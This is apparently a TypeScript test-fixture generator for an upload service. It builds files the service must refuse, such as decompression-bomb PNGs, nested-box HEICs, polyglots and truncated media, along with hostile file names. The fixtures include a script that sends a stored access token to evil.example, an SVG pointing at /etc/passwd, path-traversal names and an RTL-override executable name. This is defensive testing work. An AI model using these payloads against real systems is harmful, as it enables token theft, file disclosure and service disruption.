// Files that the product must refuse. `node test/files/make-bad-uploads.ts FOLDER` writes them into a folder, for trying them by hand.
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parseArgs } from 'node:util'
import { crc32, deflateSync } from 'node:zlib'
import { zipSync } from 'fflate'
import sharp from 'sharp'
import type { FieldError } from '#contract/http/errors.ts'

/** A file, the type that it is sent as, and the error that refuses it; null when it must be accepted. */
export interface BadUpload {
	what: string
	name: string
	as: 'picture' | 'sample'
	type: string
	content: Buffer
	refused: FieldError | null
}

const jpeg = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#b5651d' } }).jpeg()
const script = '<script>fetch("//evil.example/"+localStorage.access_token)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${script}<image xlink:href="file:///etc/passwd"/></svg>`

function chunk(type: string, data: Buffer): Buffer {
	const body = Buffer.concat([Buffer.from(type), data])
	const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
	length.writeUInt32BE(data.length)
	sum.writeUInt32BE(crc32(body))
	return Buffer.concat([length, body, sum])
}

/** A PNG of one colour: few bytes, many pixels. */
export function makePngBomb(side: number): Buffer {
	const head = Buffer.alloc(13)
	head.writeUInt32BE(side, 0)
	head.writeUInt32BE(side, 4)
	head.writeUInt8(1, 8)
	const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side), { level: 9 })
	return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

/** An ID3 tag, as players look for it, followed by other content. */
function withTag(content: string): Buffer {
	const tag = Buffer.from('ID3\x04\0\0\0\0\0\x0aTIT2\0\0\0\0', 'latin1')
	return Buffer.concat([tag.subarray(0, 20), Buffer.from(content)])
}

/** A GIF of one pixel and so many frames. */
function makeGif(frames: number): Buffer {
	const head = Buffer.from('47494638396101000100800000000000ffffff', 'hex')
	const frame = Buffer.from('21f9040001000000002c0000000001000100000202440100', 'hex')
	return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')])
}

/** HEIC pictures that `make-heic.ts` has made. */
const readHeic = (name: string) => readFile(join(import.meta.dirname, 'heic', name))

/** Recordings that `make-recordings.ts` has made. */
const readRecording = (name: string) => readFile(join(import.meta.dirname, 'recordings', name))

/** The same file with other numbers after the first mark of this kind. */
function withNumbers(file: Buffer, mark: string, ...numbers: number[]): Buffer {
	const changed = Buffer.from(file)
	for (const [index, number] of numbers.entries()) changed.writeUInt32BE(number, changed.indexOf(mark) + mark.length + 4 * index)
	return changed
}

/** A file of the same container family with another brand. */
const withBrand = (file: Buffer, brand: string) => Buffer.concat([file.subarray(0, 8), Buffer.from(brand), file.subarray(12)])

/** So many boxes in each other, the head of a HEIC file before them. */
function makeBoxBomb(depth: number): Buffer {
	const head = Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1')
	const boxes = Buffer.alloc(depth * 12)
	for (let level = 0; level < depth; level += 1) {
		boxes.writeUInt32BE(boxes.length - level * 12, level * 12)
		boxes.write(level === 0 ? 'meta' : 'ipco', level * 12 + 4, 'latin1')
	}
	return Buffer.concat([head, boxes])
}

/** All bad uploads. `media` is a folder with a good `ballad.mp3` and `stage.mp4`. */
export async function makeBadUploads(media: string): Promise<BadUpload[]> {
	const photograph = await jpeg(1200, 800).toBuffer()
	const [mp3, mp4] = [await readFile(join(media, 'ballad.mp3')), await readFile(join(media, 'stage.mp4'))]
	const [phone, many] = [await readHeic('phone.heic'), await readHeic('many-pixels.heic')]
	const zip = Buffer.from(zipSync({ 'evil.html': Buffer.from(script) }))
	const half = (content: Buffer) => content.subarray(0, Math.floor(content.length / 2))
	const picture = (what: string, name: string, content: Buffer, refused: FieldError | null, type = 'image/jpeg'): BadUpload => ({
		what,
		name,
		as: 'picture',
		type,
		content,
		refused,
	})
	const sample = (what: string, name: string, content: Buffer, refused: FieldError | null, type = 'audio/mpeg'): BadUpload => ({
		...picture(what, name, content, refused, type),
		as: 'sample',
	})
	return [
		picture('PNG of 15000 pixels squared', 'bomb-15000.png', makePngBomb(15_000), 'too_many_pixels', 'image/png'),
		picture('PNG of 30000 pixels squared', 'bomb-30000.png', makePngBomb(30_000), 'too_many_pixels', 'image/png'),
		picture('SVG with a script', 'logo.svg', Buffer.from(svg), 'not_a_picture', 'image/svg+xml'),
		picture('SVG called JPEG', 'logo.jpg', Buffer.from(`<?xml version="1.0"?>${svg}`), 'not_a_picture'),
		picture('HTML called JPEG', 'page.jpg', Buffer.from(`<!doctype html>${script}`), 'not_a_picture'),
		picture(
			'HTML behind the first bytes of a JPEG',
			'polyglot.jpg',
			Buffer.concat([photograph.subarray(0, 20), Buffer.from(script)]),
			'broken_file',
		),
		picture('PDF called PNG', 'paper.png', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF'), 'not_a_picture', 'image/png'),
		picture('GIF of 10,000 frames', 'film.gif', makeGif(10_000), 'not_a_picture', 'image/gif'),
		picture('TIFF', 'scan.tif', await sharp(photograph).tiff().toBuffer(), 'not_a_picture', 'image/tiff'),
		picture('the head of a HEIC alone', 'head.heic', phone.subarray(0, 24), 'broken_file', 'image/heic'),
		picture('half a HEIC', 'half.heic', half(phone), 'broken_file', 'image/heic'),
		picture('HEIC without its last byte', 'cut.heic', phone.subarray(0, -1), 'broken_file', 'image/heic'),
		picture('HEIC of 52 million pixels', 'many.heic', many, 'too_many_pixels', 'image/heic'),
		picture('HEIC of more pixels than it says', 'liar.heic', withNumbers(many, 'ispe', 0, 100, 100), 'broken_file', 'image/heic'),
		picture('HEIC that says it is huge', 'giant.heic', withNumbers(phone, 'ispe', 0, 2 ** 31, 2 ** 31), 'broken_file', 'image/heic'),
		picture('a thousand boxes in each other', 'boxes.heic', makeBoxBomb(1000), 'broken_file', 'image/heic'),
		picture('recording that says it is HEIC', 'film.heic', withBrand(mp4, 'heic'), 'broken_file', 'image/heic'),
		picture('nothing', 'empty.jpg', Buffer.alloc(0), 'empty_file'),
		picture('one byte', 'byte.jpg', Buffer.from('\xff', 'latin1'), 'not_a_picture'),
		picture('half a JPEG', 'half.jpg', half(photograph), 'broken_file'),
		picture('half a PNG', 'half.png', half(await sharp(photograph).png().toBuffer()), 'broken_file', 'image/png'),
		picture('half a WebP', 'half.webp', half(await sharp(photograph).webp().toBuffer()), 'broken_file', 'image/webp'),
		picture(
			'PNG with a wrong length',
			'liar.png',
			Buffer.concat([makePngBomb(20).subarray(0, 33), Buffer.alloc(2000, 0xff)]),
			'not_a_picture',
			'image/png',
		),
		picture('more than 15 MB', 'huge.jpg', Buffer.concat([photograph, Buffer.alloc(15 * 1024 * 1024)]), 'file_too_large'),
		picture('recording called JPEG', 'song.jpg', mp3, 'not_a_picture'),
		picture('one pixel', 'pixel.png', makePngBomb(1), null, 'image/png'),
		picture('CMYK JPEG', 'print.jpg', await sharp(photograph).toColourspace('cmyk').jpeg().toBuffer(), null),
		picture('JPEG with an archive behind it', 'tail.jpg', Buffer.concat([photograph, zip]), null),
		picture('JPEG that says it is text', 'says-text.jpg', photograph, null, 'text/html'),
		sample('HTML behind a tag', 'tag.mp3', withTag(script.repeat(50)), 'not_a_sample'),
		sample('text called MP3', 'text.mp3', Buffer.from('la la la '.repeat(2000)), 'not_a_sample'),
		sample('HTML called MP4', 'page.mp4', Buffer.from(`<!doctype html>${script}`), 'not_a_sample', 'video/mp4'),
		sample('half an MP3', 'half.mp3', half(mp3), 'broken_file'),
		sample('half an MP4', 'half.mp4', half(mp4), 'broken_file', 'video/mp4'),
		sample('MP4 with an archive behind it', 'tail.mp4', Buffer.concat([mp4, zip]), 'broken_file', 'video/mp4'),
		sample('the head of an MP4 alone', 'head.mp4', mp4.subarray(0, 40), 'broken_file', 'video/mp4'),
		sample('WebM of a codec that WebM has not', 'h264.webm', await readRecording('h264.webm'), 'not_a_sample', 'video/webm'),
		sample('MP4 of single pictures', 'jpegs.mp4', await readRecording('jpegs.mp4'), 'not_a_sample', 'video/mp4'),
		sample('half a WebM', 'half.webm', half(await readRecording('band.webm')), 'broken_file', 'video/webm'),
		sample('picture called MP3', 'picture.mp3', photograph, 'not_a_sample'),
		sample(
			'wave file',
			'wave.wav',
			Buffer.concat([Buffer.from('RIFF\x24\x08\0\0WAVEfmt ', 'latin1'), Buffer.alloc(2000)]),
			'not_a_sample',
			'audio/wav',
		),
		sample('nothing', 'empty.mp3', Buffer.alloc(0), 'empty_file'),
		sample('more than 20 MB of sound', 'long.mp3', Buffer.concat([mp3, Buffer.alloc(20 * 1024 * 1024)]), 'file_too_large'),
		sample('MP3 that says it is a program', 'says-program.mp3', mp3, null, 'application/x-msdownload'),
	]
}

/** File names with paths, markup or control characters, and how each must be shown. */
export const badNames: [sent: string, shown: string][] = [
	['../../../etc/cron.d/evil.jpg', 'evil.jpg'],
	['..\\..\\windows\\evil.jpg', 'evil.jpg'],
	['/etc/passwd', 'passwd'],
	[`${'n'.repeat(300)}.jpg`, `${'n'.repeat(110)}…${'n'.repeat(5)}.jpg`],
	['photo\u202Egpj.exe', 'photogpj.exe'],
	['<img src=x onerror=alert(1)>.jpg', '<img src=x onerror=alert(1)>.jpg'],
	['Schlass Vianden – Été.jpg', 'Schlass Vianden – Été.jpg'],
]

if (import.meta.main) {
	const { positionals } = parseArgs({ allowPositionals: true })
	const [folder] = positionals
	if (!folder) throw new Error('into which folder?')
	await mkdir(folder, { recursive: true })
	for (const { name, content } of await makeBadUploads(join(import.meta.dirname, '..', '..', 'samples', 'media')))
		await writeFile(join(folder, name), content)
}
